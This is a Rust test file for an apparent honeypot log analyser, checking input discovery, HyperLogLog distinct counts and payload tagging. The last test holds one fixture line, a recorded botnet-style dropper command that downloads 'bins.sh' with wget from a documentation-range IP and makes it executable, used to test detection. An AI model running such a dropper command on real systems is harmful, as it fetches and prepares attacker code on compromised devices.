//! Inputs and sketches: nested directories (only event and log files
//! taken), gzip given directly, and distinct counts that switch from exact
//! to HyperLogLog above the threshold while staying within the documented
//! error.

mod common;

use std::io::Write as _;

use common::*;
use serde_json::json;

#[test]
fn directories_are_walked_and_filtered_by_name() {
    let dir = tmp_dir("dirs");
    let nested = dir.join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    let line = |ip: &str| {
        event(
            "2026-03-01T00:00:00Z",
            ip,
            "203.0.113.1",
            23,
            "telnet",
            "s",
            "session.connect",
            json!({}),
        )
    };
    std::fs::write(
        nested.join("events-2026-03-01.jsonl"),
        line("192.0.2.1") + "\n",
    )
    .unwrap();
    std::fs::write(dir.join("notes.txt"), "not an event\n").unwrap();
    std::fs::write(dir.join(".hidden.jsonl"), line("192.0.2.9") + "\n").unwrap();
    let gz = std::fs::File::create(dir.join("a/old.log.gz")).unwrap();
    let mut enc = flate2::write::GzEncoder::new(gz, flate2::Compression::fast());
    writeln!(enc, "{}", line("192.0.2.2")).unwrap();
    enc.finish().unwrap();
    let r = json_report(&[&dir.to_string_lossy()]);
    let paths: Vec<String> = r["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            i["path"]
                .as_str()
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(paths, ["events-2026-03-01.jsonl", "old.log.gz"]);
    assert_eq!(u(&r["totals"]["events"]), 2);
    // A file named on the command line is read whatever its name.
    let r = json_report(&[&dir.join("notes.txt").to_string_lossy()]);
    assert_eq!(u(&r["totals"]["skipped"]), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn distinct_counts_turn_into_sketches_above_the_threshold() {
    let dir = tmp_dir("sketch");
    let mut f = std::io::BufWriter::new(std::fs::File::create(dir.join("e.jsonl")).unwrap());
    // Day 1: 20 000 distinct sources; day 2: 500.
    for i in 0..20_000u32 {
        let ip = std::net::Ipv4Addr::from(0x0a00_0000 + i).to_string();
        writeln!(
            f,
            "{}",
            event(
                "2026-03-01T00:10:00Z",
                &ip,
                "203.0.113.1",
                23,
                "telnet",
                "s",
                "session.connect",
                json!({})
            )
        )
        .unwrap();
    }
    for i in 0..500u32 {
        let ip = std::net::Ipv4Addr::from(0x0b00_0000 + i).to_string();
        writeln!(
            f,
            "{}",
            event(
                "2026-03-02T00:10:00Z",
                &ip,
                "203.0.113.1",
                23,
                "telnet",
                "s",
                "session.connect",
                json!({})
            )
        )
        .unwrap();
    }
    drop(f);
    let d = dir.to_string_lossy().into_owned();
    let r = json_report(&[&d, "--sketch-threshold", "1000", "--sketch-precision", "12"]);
    let day1 = &r["days"][0];
    assert_eq!(day1["estimated"], true);
    let est = u(&day1["distinct_sources"]) as f64;
    let err = (est - 20_000.0).abs() / 20_000.0;
    let bound = 3.0 * r["params"]["sketch_relative_error"].as_f64().unwrap();
    assert!((bound - 3.0 * 1.04 / 64.0).abs() < 1e-12);
    assert!(err < bound, "estimate {est} off by {err}");
    assert_eq!(r["days"][1]["estimated"], false);
    assert_eq!(u(&r["days"][1]["distinct_sources"]), 500);
    // The totals stay exact.
    assert_eq!(u(&r["totals"]["distinct_sources"]), 20_500);
    // With the default threshold everything is exact.
    let r = json_report(&[&d]);
    assert_eq!(r["days"][0]["estimated"], false);
    assert_eq!(u(&r["days"][0]["distinct_sources"]), 20_000);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn command_lines_are_searched_like_payloads() {
    let dir = tmp_dir("commands");
    let cmd = |ts: &str, raw: &str| {
        event(
            ts,
            "192.0.2.44",
            "203.0.113.1",
            23,
            "telnet",
            "t1",
            "command",
            json!({"command": "sh", "raw": raw}),
        )
    };
    let lines = [
        cmd(
            "2026-03-01T00:00:00Z",
            "cd /tmp || cd /var/run; wget http://198.51.100.8/bins.sh; chmod 777 bins.sh",
        ),
        cmd("2026-03-01T00:00:01Z", "uname -a"),
    ];
    std::fs::write(dir.join("e.jsonl"), lines.join("\n")).unwrap();
    let r = json_report(&[&dir.to_string_lossy(), "--grep", "bins\\.sh"]);
    assert_eq!(u(&r["payloads"]["events_with_payload"]), 0);
    assert_eq!(u(&r["payloads"]["hits_total"]), 1);
    assert_eq!(r["payloads"]["tags"][0]["name"], "wget-dropper");
    assert_eq!(u(&r["payloads"]["tags"][0]["events"]), 1);
    assert_eq!(u(&r["payloads"]["grep"][0]["events"]), 1);
    assert_eq!(
        r["payloads"]["hits"][0]["excerpt"],
        "cd /tmp || cd /var/run; wget http://198.51.100.8/bins.sh; chmod 777 bins.sh"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
